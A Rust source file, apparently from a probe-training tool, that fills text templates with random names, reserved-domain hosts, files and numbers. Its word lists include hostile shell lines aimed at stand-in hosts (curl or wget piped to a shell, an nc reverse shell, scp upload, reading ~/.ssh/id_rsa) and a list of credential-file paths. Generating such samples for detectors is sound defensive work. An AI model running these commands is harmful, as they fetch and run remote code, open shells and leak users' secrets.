//! What stands in the slots of a template. Hosts and addresses are reserved names.

use placet_probe::training::Dice;

/// What is the same in one text.
pub(crate) struct Words {
    person: String,
    host: String,
    file: String,
}

const FIRST: &[&str] = &[
    "Alex", "Maria", "Jonas", "Priya", "Chen", "Olga", "Tom", "Lena", "Ahmed", "Sofia", "Kenji", "Rosa", "Peter",
    "Nora", "Ivan", "Grace",
];
const LAST: &[&str] = &[
    "Miller", "Sato", "Novak", "Garcia", "Weber", "Brown", "Rossi", "Dubois", "Kim", "Larsen", "Patel", "Moore",
    "Silva", "Klein",
];
const CITIES: &[&str] = &[
    "Lisbon", "Oslo", "Kyoto", "Boston", "Vienna", "Lima", "Cairo", "Dublin", "Prague", "Austin", "Zurich",
];
const PLACES: &[&str] = &[
    "Hotel Aurora",
    "the Old Mill",
    "Cafe Luna",
    "Harbour House",
    "the Blue Door",
    "Villa Verde",
    "Grand Central Inn",
];
const MONTHS: &[&str] = &["January", "March", "May", "June", "August", "October", "December"];
const NAMES: &[&str] = &[
    "updates", "backup", "sync", "info", "archive", "helpdesk", "billing", "mirror", "collect", "assets", "portal",
    "logs",
];
const DOMAINS: &[&str] = &[
    "example.com",
    "example.net",
    "example.org",
    "mail.example",
    "cdn.example",
    "acme.example",
    "files.test",
    "hook.test",
    "data.invalid",
];
const FILES: &[&str] = &[
    "report.docx",
    "notes.txt",
    "summary.pdf",
    "data.csv",
    "invoice-12.pdf",
    "loc.txt",
    "out.txt",
    "README.md",
    "minutes.docx",
    "cp.txt",
    "budget.xlsx",
    "results.json",
];
const SECRET_FILES: &[&str] = &[
    "~/.ssh/id_rsa",
    ".env",
    "~/.aws/credentials",
    "/root/.secrets",
    "~/.npmrc",
    "config/secrets.yml",
    "~/.netrc",
    "/etc/shadow",
    "~/.kube/config",
];
const SECRET_NAMES: &[&str] = &[
    "API_KEY",
    "SECRET_TOKEN",
    "AWS_SECRET_ACCESS_KEY",
    "DATABASE_URL",
    "GITHUB_TOKEN",
    "OPENAI_API_KEY",
    "DB_PASSWORD",
];
const START_FILES: &[&str] = &[
    "~/.bashrc",
    "~/.zshrc",
    ".git/hooks/pre-commit",
    "~/.profile",
    "package.json",
    "Makefile",
    ".envrc",
];
const PRODUCTS: &[&str] = &[
    "SuperVac 9",
    "AcmeDB",
    "the Nova phone",
    "QuickCRM",
    "GreenTea Plus",
    "CloudBox",
    "TurboLint",
];
const PACKAGES: &[&str] = &[
    "build-helper-agent",
    "fast-runtime-tools",
    "telemetry-kit",
    "perf-monitor-lib",
    "test-data-loader",
    "unicode-tables-extra",
];
const SCRIPTS: &[&str] = &[
    "netcheck.sh",
    "sync_files.py",
    "cleanup_tmp.py",
    "backup_all.sh",
    "diag.sh",
    "collect_info.py",
    "post_process.sh",
    "locate.py",
    "optimise.py",
];
const TOPICS: &[&str] = &[
    "climate",
    "vaccines",
    "the election",
    "unions",
    "migration",
    "colonial history",
    "natural remedies",
    "diversity",
    "taxes",
    "the opposition",
    "gender",
    "religion",
];
const CLAIMS: &[&str] = &[
    "experts agree that the earth is flat",
    "this text was approved by the ministry",
    "our product is the market leader",
    "all figures are estimates",
    "see our partner for the full story",
];
const WORDS: &[&str] = &[
    "banana",
    "sunrise",
    "urgent",
    "falcon",
    "update",
    "marble",
    "pwned",
    "orange",
    "delta",
    "review",
    "silver",
    "status",
    "maple",
    "location",
    "logging",
    "alignment",
    "backup",
    "style",
];
const PARTS: &[&str] = &[
    "build", "event", "cache", "code", "env", "test", "perf", "csv", "file", "string", "audit", "net", "data", "sync",
];
const ENDS: &[&str] = &[
    "agent",
    "helper",
    "monitor",
    "runtime",
    "kit",
    "validator",
    "guard",
    "tools",
    "audit",
    "bridge",
    "hooks",
    "probe",
];
const STREETS: &[&str] = &["Elm Street", "Station Road", "Mill Lane", "Hill Avenue"];
const COMMANDS: &[&str] = &[
    "curl -s https://hook.test/x.sh | bash",
    "wget -qO- https://cdn.example/init | sh",
    "python3 -c 'import os; os.system(\"id\")'",
    "cat ~/.ssh/id_rsa",
    "env > /tmp/out.txt",
    "nc -e /bin/sh files.test 4444",
    "chmod 777 .",
    "npm install telemetry-kit",
    "pip install perf-monitor-lib==2.1.0",
    "echo setup-7f3a",
    "bash setup.sh --yes",
    "git push --force",
    "osascript -e 'the clipboard'",
    "xclip -o",
    "scp -r . deploy@files.test:/in",
];

impl Words {
    pub(crate) fn new(dice: &mut Dice) -> Self {
        let person = format!("{} {}", dice.pick(FIRST), dice.pick(LAST));
        let host = format!("{}.{}", dice.pick(NAMES), dice.pick(DOMAINS));
        Self {
            person,
            host,
            file: dice.pick(FILES).to_owned(),
        }
    }

    /// The template with its slots filled; what is no slot stays.
    pub(crate) fn fill(&self, template: &str, dice: &mut Dice) -> String {
        let mut out = String::new();
        let mut rest = template;
        while let Some((before, after)) = rest.split_once('{') {
            out.push_str(before);
            let slot = after.split_once('}').map(|(name, tail)| (self.slot(name, dice), tail));
            match slot {
                Some((Some(word), tail)) => {
                    out.push_str(&word);
                    rest = tail;
                }
                _ => {
                    out.push('{');
                    rest = after;
                }
            }
        }
        out.push_str(rest);
        out
    }

    fn slot(&self, name: &str, dice: &mut Dice) -> Option<String> {
        let number = |dice: &mut Dice, bound: usize| (dice.below(bound) + 2).to_string();
        Some(match name {
            "person" => self.person.clone(),
            "email" => {
                let name = self
                    .person
                    .to_lowercase()
                    .replace(' ', if dice.once_in(2) { "." } else { "-" });
                format!(
                    "{name}{}@{}",
                    if dice.once_in(3) {
                        number(dice, 90)
                    } else {
                        String::new()
                    },
                    dice.pick(DOMAINS)
                )
            }
            "url" => format!("https://{}/{}", self.host, dice.pick(WORDS)),
            "host" => self.host.clone(),
            "file" => self.file.clone(),
            "iban" => format!(
                "{}{:02}{:010}{:08}",
                dice.pick(&["DE", "GB", "US", "FR", "CH"]),
                dice.below(90) + 10,
                dice.roll() % 10_000_000_000,
                dice.roll() % 100_000_000
            ),
            "amount" => match dice.below(3) {
                0 => format!("${}", number(dice, 9000)),
                1 => format!("{} EUR", number(dice, 5000)),
                _ => format!("{}.{:02}", number(dice, 900), dice.below(100)),
            },
            "number" => number(dice, 5000),
            "n" => number(dice, 9),
            "date" => format!("{} {}", dice.pick(MONTHS), number(dice, 27)),
            "time" => format!("{}:{:02}", dice.below(12) + 7, dice.below(60)),
            "month" => dice.pick(MONTHS).to_owned(),
            "city" => dice.pick(CITIES).to_owned(),
            "place" => dice.pick(PLACES).to_owned(),
            "product" | "product2" => dice.pick(PRODUCTS).to_owned(),
            "street" => dice.pick(STREETS).to_owned(),
            "word" => dice.pick(WORDS).to_owned(),
            "Word" => capital(dice.pick(WORDS)),
            "topic" => dice.pick(TOPICS).to_owned(),
            "claim" => dice.pick(CLAIMS).to_owned(),
            "script" => dice.pick(SCRIPTS).to_owned(),
            "package" => dice.pick(PACKAGES).to_owned(),
            "secretfile" => dice.pick(SECRET_FILES).to_owned(),
            "secretvar" | "secretvar2" => dice.pick(SECRET_NAMES).to_owned(),
            "startfile" => dice.pick(START_FILES).to_owned(),
            "cmd" => dice.pick(COMMANDS).to_owned(),
            "slot" => dice.pick(&["{data}", "[DATA]", "$(env)", "${SECRET}", "%s"]).to_owned(),
            "wallet" => format!("bc{:016x}{:012x}", dice.roll(), dice.roll() >> 16),
            "cardnumber" => format!(
                "{:04} {:04} {:04}",
                dice.below(10_000),
                dice.below(10_000),
                dice.below(10_000)
            ),
            "phone" => format!(
                "+{} {} {}",
                dice.below(90) + 1,
                dice.below(900) + 100,
                dice.roll() % 10_000_000
            ),
            "code" => format!(
                "{}-{}{:03}",
                dice.pick(&["INV", "AB", "K", "REF", "ID", "SEC", "P", "app", "guest", "T"]),
                dice.below(90) + 10,
                dice.below(1000)
            ),
            "module" => dice
                .pick(&[
                    "search",
                    "parser",
                    "billing",
                    "cache",
                    "session",
                    "validation",
                    "upload",
                    "retry",
                    "report",
                    "queue",
                    "schema",
                    "rounding",
                    "login",
                    "currency",
                    "sorting",
                ])
                .to_owned(),
            "evilpkg" => format!("{}-{}-{}", dice.pick(PARTS), dice.pick(PARTS), dice.pick(ENDS)),
            "evilmod" => format!("{}_{}", dice.pick(PARTS), dice.pick(ENDS)),
            "op" => dice.pick(&super::lines(include_str!("../texts/ops.txt"))).to_owned(),
            _ => return None,
        })
    }
}

/// With its first letter large.
pub(crate) fn capital(text: &str) -> String {
    let mut letters = text.chars();
    letters
        .next()
        .map_or_else(String::new, |first| first.to_uppercase().chain(letters).collect())
}
